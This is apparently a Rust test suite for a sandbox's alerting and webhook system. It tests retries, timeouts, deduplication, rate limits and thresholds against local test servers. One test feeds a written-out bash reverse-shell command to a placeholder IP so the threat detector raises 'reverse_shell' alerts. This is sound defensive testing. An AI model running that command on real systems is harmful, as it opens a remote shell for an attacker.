//! Alerts: deduplication with counts, rate limiting, thresholds through the engine, a callback
//! that panics, and webhooks against local servers on 127.0.0.1 — one slow (timeout, then the
//! retry succeeds), one failing (500: bounded retries), one working, one hanging (runs and
//! `on_event` are never held up).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::*;
use tokio::sync::Semaphore;
use vana_sandbox_core::fake::{FakeLanguage, FakePolicy};
use vana_sandbox_core::{Engine, EngineError, ExecutionRequest, Languages, Monitor};
use vana_sandbox_monitor::alert::{
    Alert, AlertKind, Alerter, CallbackSink, LogSink, Thresholds, WebhookConfig, WebhookSink,
};
use vana_sandbox_monitor::metrics::{names, Metrics};
use vana_sandbox_monitor::threat::{Finding, FindingSink, Severity, ThreatDetector};

/// What the test server does with the n-th request (0-based).
#[derive(Clone, Copy, Debug)]
enum Reply {
    Status(u16),
    /// Wait, then answer with this status (the client has usually given up by then).
    After(Duration, u16),
    /// Never answer (until the server stops).
    Hang,
}

struct Server {
    addr: SocketAddr,
    requests: Arc<Mutex<Vec<(Instant, String, String)>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Server {
    fn start(reply: fn(usize) -> Reply) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let addr = listener.local_addr().unwrap();
        let requests: Arc<Mutex<Vec<(Instant, String, String)>>> = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let (r, s) = (requests.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let n = AtomicUsize::new(0);
            let deadline = Instant::now() + Duration::from_secs(60);
            while !s.load(Ordering::Relaxed) && Instant::now() < deadline {
                match listener.accept() {
                    Ok((conn, _)) => {
                        let i = n.fetch_add(1, Ordering::Relaxed);
                        let (r, s) = (r.clone(), s.clone());
                        std::thread::spawn(move || handle(conn, reply(i), &r, &s));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(2)),
                }
            }
        });
        Self {
            addr,
            requests,
            stop,
            thread: Some(thread),
        }
    }

    fn url(&self) -> String {
        format!("http://{}/hooks/alerts?x=1", self.addr)
    }

    fn count(&self) -> usize {
        self.requests.lock().unwrap().len()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn handle(
    mut conn: TcpStream,
    reply: Reply,
    requests: &Mutex<Vec<(Instant, String, String)>>,
    stop: &AtomicBool,
) {
    conn.set_nonblocking(false).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let (head, body) = loop {
        let Ok(n) = conn.read(&mut chunk) else { return };
        if n == 0 {
            return;
        }
        buf.extend_from_slice(&chunk[..n]);
        let text = String::from_utf8_lossy(&buf).into_owned();
        if let Some(end) = text.find("\r\n\r\n") {
            let head = text[..end].to_string();
            let len: usize = head
                .lines()
                .find_map(|l| {
                    l.to_ascii_lowercase()
                        .strip_prefix("content-length:")
                        .map(|v| v.trim().parse().unwrap())
                })
                .unwrap_or(0);
            if buf.len() >= end + 4 + len {
                break (head, text[end + 4..end + 4 + len].to_string());
            }
        }
    };
    requests.lock().unwrap().push((Instant::now(), head, body));
    let status = match reply {
        Reply::Status(s) => s,
        Reply::After(d, s) => {
            std::thread::sleep(d);
            s
        }
        Reply::Hang => {
            while !stop.load(Ordering::Relaxed) {
                std::thread::sleep(Duration::from_millis(10));
            }
            return;
        }
    };
    let _ = conn.write_all(
        format!("HTTP/1.1 {status} X\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
            .as_bytes(),
    );
}

fn finding(rule: &str, tenant: &str) -> Finding {
    Finding {
        rule: rule.into(),
        severity: Severity::High,
        summary: "test rule".into(),
        run_id: Some("run-1".into()),
        tenant: Some(tenant.into()),
        language: Some("python".into()),
        explanation: format!("rule `{rule}` (test rule): line 1 matches `x`: x"),
        evidence: Vec::new(),
    }
}

fn webhook(url: String, timeout_ms: u64, attempts: u32) -> Arc<WebhookSink> {
    let mut c = WebhookConfig::new(url);
    c.timeout = Duration::from_millis(timeout_ms);
    c.attempts = attempts;
    c.backoff = Duration::from_millis(50);
    c.headers = vec![("Authorization".into(), "Bearer test-token".into())];
    Arc::new(WebhookSink::new(c).unwrap())
}

fn alerter_with(sink: Arc<dyn vana_sandbox_monitor::alert::AlertSink>) -> Arc<Alerter> {
    Alerter::builder()
        .sink(sink)
        .sink(Arc::new(LogSink))
        .thresholds(Thresholds {
            queue_full: false,
            capacity: None,
            error_rate: None,
            sandbox_errors: None,
            queue_depth: None,
        })
        .start()
        .unwrap()
}

#[test]
fn a_working_webhook_receives_the_alert_as_json() {
    let server = Server::start(|_| Reply::Status(200));
    let hook = webhook(server.url(), 2000, 3);
    let alerter = alerter_with(hook.clone());
    alerter.on_finding(&finding("reverse_shell", "acme"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert!(hook.flush(Duration::from_secs(10)));
    assert_eq!(hook.stats().delivered, 1, "{:?}", hook.stats());
    let reqs = server.requests.lock().unwrap();
    assert_eq!(reqs.len(), 1);
    let (_, head, body) = &reqs[0];
    assert!(
        head.starts_with("POST /hooks/alerts?x=1 HTTP/1.1"),
        "{head}"
    );
    let lower = head.to_ascii_lowercase();
    assert!(lower.contains("content-type: application/json"), "{head}");
    assert!(lower.contains("authorization: bearer test-token"), "{head}");
    let alert: Alert = serde_json::from_str(body).unwrap();
    assert_eq!(
        (alert.rule.as_str(), alert.subject.as_str()),
        ("reverse_shell", "acme")
    );
    assert_eq!(
        (alert.kind, alert.severity, alert.count),
        (AlertKind::Finding, Severity::High, 1)
    );
    assert_eq!(alert.finding.unwrap().run_id.as_deref(), Some("run-1"));
}

#[test]
fn a_slow_webhook_times_out_then_the_retry_succeeds() {
    let server = Server::start(|n| {
        if n == 0 {
            Reply::After(Duration::from_secs(2), 200)
        } else {
            Reply::Status(200)
        }
    });
    let hook = webhook(server.url(), 300, 3);
    let alerter = alerter_with(hook.clone());
    alerter.on_finding(&finding("crypto_miner", "acme"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert!(hook.flush(Duration::from_secs(10)));
    let s = hook.stats();
    assert_eq!(
        (s.delivered, s.failed, s.failed_attempts),
        (1, 0, 1),
        "{s:?}"
    );
    let reqs = server.requests.lock().unwrap();
    assert_eq!(reqs.len(), 2);
    let gap = reqs[1].0 - reqs[0].0;
    // The timeout (300 ms) and the backoff (50 ms), less what connecting took.
    assert!(
        gap >= Duration::from_millis(320),
        "retry came after {gap:?}"
    );
    assert_eq!(reqs[0].2, reqs[1].2, "the retry sends the same alert");
}

#[test]
fn a_failing_webhook_gives_up_after_bounded_retries() {
    let server = Server::start(|_| Reply::Status(500));
    let hook = webhook(server.url(), 1000, 3);
    let alerter = alerter_with(hook.clone());
    alerter.on_finding(&finding("ptrace", "acme"));
    alerter.on_finding(&finding("ptrace", "beta"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert!(hook.flush(Duration::from_secs(10)));
    let s = hook.stats();
    assert_eq!(
        (s.delivered, s.failed, s.failed_attempts),
        (0, 2, 6),
        "{s:?}"
    );
    assert_eq!(server.count(), 6, "three attempts per alert, no more");
    // A client error is not retried.
    let server = Server::start(|_| Reply::Status(400));
    let hook = webhook(server.url(), 1000, 3);
    let alerter = alerter_with(hook.clone());
    alerter.on_finding(&finding("ptrace", "acme"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert!(hook.flush(Duration::from_secs(10)));
    assert_eq!((hook.stats().failed, server.count()), (1, 1));
    // Nobody listening: refused at connect, counted the same way.
    let addr = {
        TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
    };
    let hook = webhook(format!("http://{addr}/"), 500, 2);
    let alerter = alerter_with(hook.clone());
    alerter.on_finding(&finding("ptrace", "acme"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert!(hook.flush(Duration::from_secs(10)));
    assert_eq!(hook.stats().failed, 1);
}

#[test]
fn a_hanging_webhook_never_holds_up_runs_or_on_event() {
    let server = Server::start(|_| Reply::Hang);
    let metrics = Metrics::new();
    let mut c = WebhookConfig::new(server.url());
    c.timeout = Duration::from_secs(30);
    c.queue = 4;
    let hook = Arc::new(WebhookSink::with_metrics(c, Some(metrics.clone())).unwrap());
    let alerter = Alerter::builder()
        .sink(hook.clone())
        .max_per_minute(10_000)
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let detector = ThreatDetector::builder()
        .sink(alerter.clone())
        .start()
        .unwrap();
    let engine = fake_engine(
        scripted_exec(),
        &[
            alerter.clone() as Arc<dyn Monitor>,
            detector.clone(),
            metrics.monitor(),
        ],
    );
    let rt = rt();
    // Every run is an attack from another tenant: a new alert each, for a webhook that hangs.
    let t = Instant::now();
    for i in 0..200 {
        rt.block_on(engine.execute_as(
            &format!("tenant-{i}"),
            ExecutionRequest::new("fake", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        ))
        .unwrap();
    }
    let runs = t.elapsed();
    assert!(runs < Duration::from_secs(5), "200 runs took {runs:?}");
    assert!(detector.flush(Duration::from_secs(5)));
    assert!(alerter.flush(Duration::from_secs(5)));
    let sent = metrics
        .snapshot()
        .counter(names::ALERTS, &[("rule", "reverse_shell")]);
    assert_eq!(sent, 200, "one alert per tenant, none lost");
    let s = hook.stats();
    assert_eq!(s.delivered, 0);
    assert!(
        s.dropped >= 190,
        "the webhook's queue overflowed and was counted: {s:?}"
    );
    // on_event and on_finding themselves: microseconds, while the webhook hangs.
    let mut times = Vec::new();
    let f = finding("reverse_shell", "x");
    let result = vana_sandbox_core::ExecutionResult::rejected("id", "fake", "r");
    let request = ExecutionRequest::new("fake", "x");
    for i in 0..2000 {
        let t = Instant::now();
        if i % 2 == 0 {
            alerter.on_finding(&f);
        } else {
            alerter.on_event(&vana_sandbox_core::Event::Finished {
                result: &result,
                tenant: None,
                request: &request,
                elapsed: Duration::from_millis(1),
                load: vana_sandbox_core::Load::default(),
            });
        }
        times.push(t.elapsed());
    }
    times.sort();
    let (median, p99, max) = (times[1000], times[1980], times[1999]);
    eprintln!("alerter on_finding/on_event while the webhook hangs: median {median:?}, p99 {p99:?}, max {max:?}");
    assert!(median < Duration::from_micros(50), "median {median:?}");
    assert!(p99 < Duration::from_millis(1), "p99 {p99:?}");
    assert!(alerter.flush(Duration::from_secs(5)));
    let s = hook.stats();
    let snap = metrics.snapshot();
    assert_eq!(
        snap.counter(
            names::ALERT_DELIVERIES,
            &[("sink", "webhook"), ("result", "dropped")]
        ),
        s.dropped
    );
    // What the alerter's own queue could not take is counted too, never lost silently.
    assert_eq!(
        snap.counter(names::ALERTS_DROPPED, &[("reason", "queue_full")]),
        alerter.stats().queue_full
    );
    assert_eq!(server.count(), 1, "one request, hanging");
}

#[test]
fn repeats_are_folded_into_one_alert_with_a_count_and_the_rate_is_bounded() {
    let got: Arc<Mutex<Vec<Alert>>> = Arc::default();
    let g = got.clone();
    let alerter = Alerter::builder()
        .sink(Arc::new(CallbackSink::new(move |a: &Alert| {
            g.lock().unwrap().push(a.clone())
        })))
        .dedup_window(Duration::from_millis(300))
        .max_per_minute(4)
        .start()
        .unwrap();
    for _ in 0..5 {
        alerter.on_finding(&finding("reverse_shell", "acme"));
    }
    alerter.on_finding(&finding("reverse_shell", "beta"));
    assert!(alerter.flush(Duration::from_secs(5)));
    {
        let g = got.lock().unwrap();
        let subjects: Vec<(&str, u64, bool)> = g
            .iter()
            .map(|a| (a.subject.as_str(), a.count, a.repeat))
            .collect();
        assert_eq!(subjects, [("acme", 1, false), ("beta", 1, false)]);
    }
    std::thread::sleep(Duration::from_millis(400));
    assert!(alerter.flush(Duration::from_secs(5)));
    {
        let g = got.lock().unwrap();
        assert_eq!(g.len(), 3, "{g:#?}");
        assert_eq!(
            (g[2].subject.as_str(), g[2].count, g[2].repeat),
            ("acme", 4, true)
        );
    }
    assert_eq!(alerter.stats().suppressed, 4);
    // Four a minute: the fourth distinct alert goes, the rest are refused and counted.
    for i in 0..5 {
        alerter.on_finding(&finding("ptrace", &format!("t{i}")));
    }
    assert!(alerter.flush(Duration::from_secs(5)));
    let s = alerter.stats();
    assert_eq!((s.sent, s.rate_limited), (4, 4), "{s:?}");
}

#[test]
fn thresholds_fire_through_the_engine() {
    let got: Arc<Mutex<Vec<Alert>>> = Arc::default();
    let g = got.clone();
    let alerter = Alerter::builder()
        .sink(Arc::new(CallbackSink::new(move |a: &Alert| {
            g.lock().unwrap().push(a.clone())
        })))
        .thresholds(Thresholds {
            queue_depth: Some(1),
            ..Thresholds::default()
        })
        .start()
        .unwrap();
    let gate = Arc::new(Semaphore::new(0));
    let engine = Engine::builder()
        .executor(Arc::new(default_exec().with_gate(gate.clone())))
        .policy(Arc::new(FakePolicy::default()))
        .languages(languages())
        .monitor(alerter.clone())
        .max_concurrency(1)
        .max_queue(1)
        .build()
        .unwrap();
    let rt = rt();
    rt.block_on(async {
        let a = tokio::spawn({
            let e = engine.clone();
            async move { e.run("fake", "a").await }
        });
        while engine.running() < 1 {
            tokio::task::yield_now().await;
        }
        let b = tokio::spawn({
            let e = engine.clone();
            async move { e.run("fake", "b").await }
        });
        while engine.queued() < 1 {
            tokio::task::yield_now().await;
        }
        assert!(matches!(
            engine.run("fake", "c").await,
            Err(EngineError::QueueFull { .. })
        ));
        gate.add_permits(10);
        a.await.unwrap().unwrap();
        b.await.unwrap().unwrap();
    });
    // Three sandbox errors (a language whose toolchain is missing).
    let broken = Engine::builder()
        .executor(Arc::new(default_exec()))
        .policy(Arc::new(FakePolicy::default()))
        .languages(Languages::new().with(Arc::new(FakeLanguage::missing())))
        .monitor(alerter.clone())
        .build()
        .unwrap();
    for _ in 0..3 {
        rt.block_on(broken.run("fake", "x")).unwrap();
    }
    assert!(alerter.flush(Duration::from_secs(5)));
    let g = got.lock().unwrap();
    let rules: Vec<&str> = g.iter().map(|a| a.rule.as_str()).collect();
    for want in ["queue_depth", "capacity", "queue_full", "sandbox_errors"] {
        assert!(rules.contains(&want), "{want} missing from {rules:?}");
    }
    let full = g.iter().find(|a| a.rule == "queue_full").unwrap();
    assert_eq!(
        (full.kind, full.subject.as_str(), full.severity),
        (AlertKind::Threshold, "engine", Severity::High)
    );
    assert_eq!(full.threshold, Some(1.0));
}

#[test]
fn a_panicking_callback_is_caught_and_counted() {
    let sink = Arc::new(CallbackSink::new(|_a: &Alert| {
        panic!("the host's callback failed")
    }));
    let alerter = Alerter::builder().sink(sink.clone()).start().unwrap();
    alerter.on_finding(&finding("a", "x"));
    alerter.on_finding(&finding("b", "x"));
    assert!(alerter.flush(Duration::from_secs(5)));
    assert_eq!(sink.panics(), 2);
    assert_eq!(alerter.stats().sink_failures, 2);
    assert_eq!(alerter.stats().sent, 2);
}

#[test]
fn webhook_urls_are_checked() {
    for bad in [
        "https://example.invalid/x",
        "ftp://x/",
        "not a url",
        "http:///nohost",
    ] {
        assert!(WebhookSink::new(WebhookConfig::new(bad)).is_err(), "{bad}");
    }
    let mut c = WebhookConfig::new("http://127.0.0.1:9/");
    c.headers = vec![("Bad Header".into(), "x".into())];
    assert!(WebhookSink::new(c).is_err());
}
